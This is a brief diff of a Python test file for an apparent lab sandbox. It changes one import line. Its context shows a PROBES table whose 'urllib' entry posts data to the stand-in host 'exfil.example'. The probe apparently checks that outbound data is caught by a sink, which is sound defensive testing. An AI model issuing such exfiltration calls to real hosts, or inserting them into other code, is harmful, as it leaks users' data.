@@ -13,7 +13,7 @@ import pytest
 
 from lab_env import Lab, scenario
 from lab_env.dataplane.sink import KEPT_BYTES
-from tests.training.test_jobs import archive, run
+from tests.training.made import archive, run
 
 PROBES = {
     "urllib": "urllib.request.urlopen('https://exfil.example/a?b=c', data=b'one\\ntwo').status",
